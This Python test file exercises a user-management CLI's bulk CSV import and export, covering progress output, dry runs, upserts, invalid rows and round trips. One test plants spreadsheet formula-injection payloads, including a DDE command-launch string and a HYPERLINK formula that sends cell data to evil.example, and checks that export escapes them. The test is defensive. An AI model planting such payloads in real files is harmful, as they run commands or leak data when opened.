"""``chamberlain users import`` and ``users export`` against the emulator."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest

from chamberlain.api.rest.routes_bulk import CSV_COLUMNS as SERVER_COLUMNS
from chamberlain.cli import transfer
from chamberlain.cli.user_csv import CSV_COLUMNS
from chamberlain.client import ApiKeyAuth, Client
from chamberlain.testing import ChamberlainServer
from tests.cli.conftest import Cli, ok

pytestmark = pytest.mark.usefixtures("logged_in")

HEADER = ["user_name", "email", "first_name", "last_name", "roles", "title", "allow_sms"]
RESULT_FIELDS = ["row", "user_name", "result", "code", "detail"]
# Rows of the big import in the default run; the full 10 000 is a long run
# (CHAMBERLAIN_IMPORT_ROWS=10000, docs/testing.md).
IMPORT_ROWS = int(os.environ.get("CHAMBERLAIN_IMPORT_ROWS", "2000"))


def _write(path: Path, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def _person(i: int, **change: str) -> list[str]:
    values = {
        "user_name": f"user{i:05d}",
        "email": f"user{i:05d}@example.com",
        "first_name": "Grace",
        "last_name": "Hopper",
        "roles": "12 14",
        "title": "",
        "allow_sms": "yes" if i % 2 else "",
    }
    values.update(change)
    return [values[column] for column in HEADER]


def _results(stdout: str) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = json.loads(stdout)
    return rows


def test_the_columns_are_the_bulk_endpoints() -> None:
    assert CSV_COLUMNS == SERVER_COLUMNS


def test_ten_thousand_rows_show_progress_and_one_result_per_row(
    cli: Cli, tmp_path: Path, chamberlain_server: ChamberlainServer
) -> None:
    """The issue's test: a 10 000-row file, progress on stderr, results per row. CI runs
    IMPORT_ROWS rows (several chunks, each with progress); the full size is a long run."""
    n = IMPORT_ROWS
    assert n >= 4 * transfer.CHUNK_ROWS
    email, roles, title, dup = 17, n * 4_242 // 10_000, n * 6_001 // 10_000, n - 2
    bad = {
        email: _person(email, email="not-an-address"),
        roles: _person(roles, roles="12;admin"),
        title: _person(title, title="x" * 1_100),  # the server's schema refuses the request
        dup: _person(1, first_name="Dup"),  # a name taken earlier in the file
    }
    rows = [bad.get(i) or _person(i) for i in range(n)]
    source = _write(tmp_path / "staff.csv", rows)
    result = cli(
        "users", "import", str(source), "--account", chamberlain_server.root_alias, "--json"
    )
    assert result.exit_code == 11, result.stderr
    results = _results(result.stdout)
    assert [r["row"] for r in results] == list(range(2, n + 2))
    assert list(results[0]) == RESULT_FIELDS
    failed = {r["row"] - 2: (r["user_name"], r["code"]) for r in results if r["result"] == "error"}
    assert failed == {
        email: (f"user{email:05d}", "invalid_email"),
        roles: (f"user{roles:05d}", "invalid_roles"),
        title: (f"user{title:05d}", "invalid_request"),
        dup: ("user00001", "user_exists"),
    }
    assert {r["result"] for r in results if r["row"] - 2 not in bad} == {"created"}
    assert "1024" in results[title]["detail"]

    progress = re.findall(rf"^import: (\d+)/{n} rows$", result.stderr, re.MULTILINE)
    steps = [int(done) for done in progress]
    assert steps == sorted(steps)
    assert len(steps) >= n // transfer.CHUNK_ROWS
    assert steps[-1] == n
    assert f"import: {n} rows: {n - 4} created, 4 error" in result.stderr
    assert result.stderr.rstrip().endswith(f"Error: 4 of {n} rows failed")

    # The server holds what the results say.
    listed = json.loads(
        ok(
            cli(
                "users",
                "list",
                "--account",
                chamberlain_server.root_alias,
                "--name-prefix",
                "Dup",
                "--json",
            )
        )
    )
    assert listed == []
    one = json.loads(ok(cli("users", "show", f"user{n - 1:05d}", "--json")))
    assert (one["roles"], one["allow_sms"]) == ([12, 14], (n - 1) % 2 == 1)


def test_dry_run_upsert_and_an_export_that_imports_back_unchanged(
    cli: Cli, tmp_path: Path, chamberlain_server: ChamberlainServer
) -> None:
    alias = chamberlain_server.root_alias
    source = _write(tmp_path / "in.csv", [_person(i, title="Dr") for i in range(3)])
    dry = cli("users", "import", str(source), "--account", alias, "--dry-run", "--json")
    assert [r["result"] for r in _results(ok(dry))] == ["created"] * 3
    assert "(dry run: nothing was written)" in dry.stderr
    assert json.loads(ok(cli("users", "list", "--account", alias, "--json"))) == []

    table = ok(cli("users", "import", str(source), "--account", alias)).splitlines()
    assert table[0].split() == ["ROW", "USER", "RESULT", "CODE", "DETAIL"]
    assert table[1].split() == ["2", "user00000", "created", "-", "-"]

    exported = tmp_path / "out.csv"
    export = cli("users", "export", "--account", alias, "-o", str(exported))
    assert ok(export) == ""
    assert export.stderr.splitlines() == [
        "export: 3/3 rows",
        f"export: wrote 3 users to {exported}",
    ]
    lines = exported.read_text().splitlines()
    assert lines[0] == ",".join(CSV_COLUMNS)
    assert lines[2] == "user00001,user00001@example.com,Grace,Hopper,,Dr,,,,,,true,12 14"

    again = cli("users", "import", str(exported), "--account", alias, "--upsert", "--json")
    assert [r["result"] for r in _results(ok(again))] == ["unchanged"] * 3
    changed = exported.read_text().replace(",Dr,", ",Prof,")
    updated = cli(
        "users", "import", "-", "--account", alias, "--upsert", "--output", "csv", input=changed
    )
    rows = list(csv.DictReader(io.StringIO(ok(updated))))
    assert [(r["row"], r["result"]) for r in rows] == [
        ("2", "updated"),
        ("3", "updated"),
        ("4", "updated"),
    ]
    to_stdout = ok(cli("users", "export", "--account", alias))
    assert to_stdout.splitlines()[1].split(",")[5] == "Prof"


def test_a_bad_file_sends_nothing(
    cli: Cli, tmp_path: Path, chamberlain_server: ChamberlainServer
) -> None:
    alias = chamberlain_server.root_alias
    unknown = _write(
        tmp_path / "a.csv", [], header=["user_name", "email", "first_name", "last_name", "password"]
    )
    result = cli("users", "import", str(unknown), "--account", alias)
    assert result.exit_code == 7
    assert "unknown column(s): password" in result.stderr
    missing = _write(tmp_path / "b.csv", [["x", "x@example.com"]], header=["user_name", "email"])
    result = cli("users", "import", str(missing), "--account", alias)
    assert result.exit_code == 7
    assert "missing column(s): first_name, last_name" in result.stderr
    latin = tmp_path / "c.csv"
    latin.write_bytes(",".join(HEADER).encode() + b"\nj\xf6rg,j@example.com,J,D,,,\n")
    assert cli("users", "import", str(latin), "--account", alias).exit_code == 7
    assert cli("users", "import", str(tmp_path / "none.csv"), "--account", alias).exit_code == 2
    audit = json.loads(ok(cli("audit", "list", "--json")))
    assert not [event for event in audit if event["face"] == "rest"]


def test_a_refusal_of_the_whole_import_stops_it_with_its_code(
    cli: Cli, tmp_path: Path, chamberlain_server: ChamberlainServer
) -> None:
    source = _write(tmp_path / "in.csv", [_person(i) for i in range(3)] + [_person(3, email="")])
    result = cli("users", "import", str(source), "--account", "NOPE", "--json")
    assert result.exit_code == 5
    assert "import stopped at line 2" in result.stderr
    # The row that could not be sent is reported all the same.
    assert [(r["row"], r["code"]) for r in _results(result.stdout)] == [(5, "field_required")]


FORMULAS = {
    "first_name": "=cmd|' /C calc'!A0",
    "last_name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "title": "@SUM(1+1)",
    "office_number": "+1 555 0100",
    "mobile_number": "-2+3",
    "fax_number": "'=already quoted",
}


def test_formulas_are_escaped_in_every_csv_and_an_export_still_imports_back_unchanged(
    cli: Cli, tmp_path: Path, chamberlain_server: ChamberlainServer
) -> None:
    """Issue 13: cells a spreadsheet would run are written with a leading quote, which
    the import drops again, so legitimate values such as ``-2+3`` survive the round trip."""
    alias = chamberlain_server.root_alias
    # Planted as anyone with users:manage (or a SCIM provider) could.
    with Client(chamberlain_server.base_url, auth=ApiKeyAuth(chamberlain_server.api_key,
                chamberlain_server.password)) as api:  # fmt: skip
        f = FORMULAS
        api.users.create(
            alias, user_name="+evil", email="evil@example.com", first_name=f["first_name"],
            last_name=f["last_name"], title=f["title"], office_number=f["office_number"],
            mobile_number=f["mobile_number"], fax_number=f["fax_number"],
        )  # fmt: skip

    exported = tmp_path / "out.csv"
    ok(cli("users", "export", "--account", alias, "-o", str(exported)))
    with exported.open(newline="", encoding="utf-8") as stream:
        (row,) = csv.DictReader(stream)
    assert row["user_name"] == "'+evil"
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    again = cli("users", "import", str(exported), "--account", alias, "--upsert", "--json")
    assert [r["result"] for r in _results(ok(again))] == ["unchanged"]

    listed = ok(cli("users", "list", "--account", alias, "--output", "csv"))
    (shown,) = csv.DictReader(io.StringIO(listed))
    assert (shown["user_name"], shown["first_name"]) == ("'+evil", "'" + FORMULAS["first_name"])
    taken = cli("users", "import", str(exported), "--account", alias, "--output", "csv")
    assert taken.exit_code == 11
    (result,) = csv.DictReader(io.StringIO(taken.stdout))
    assert (result["user_name"], result["code"]) == ("'+evil", "user_exists")


def test_a_row_the_server_cannot_read_fails_alone_and_names_the_member(
    cli: Cli, tmp_path: Path, chamberlain_server: ChamberlainServer
) -> None:
    """A value the bulk body's schema refuses fails its whole request; the import splits
    the chunk down to that row, whose result says which member was at fault."""
    rows = [_person(0), _person(1, title="x" * 1025), _person(2)]
    source = _write(tmp_path / "in.csv", rows)
    result = cli("users", "import", str(source), "--account", chamberlain_server.root_alias,
                 "--json")  # fmt: skip
    assert result.exit_code == 11
    found = {r["row"]: r for r in _results(result.stdout)}
    assert [found[n]["result"] for n in (2, 3, 4)] == ["created", "error", "created"]
    assert found[3]["code"] == "invalid_request"
    assert "users.0.title: String should have at most 1024 characters" in found[3]["detail"]
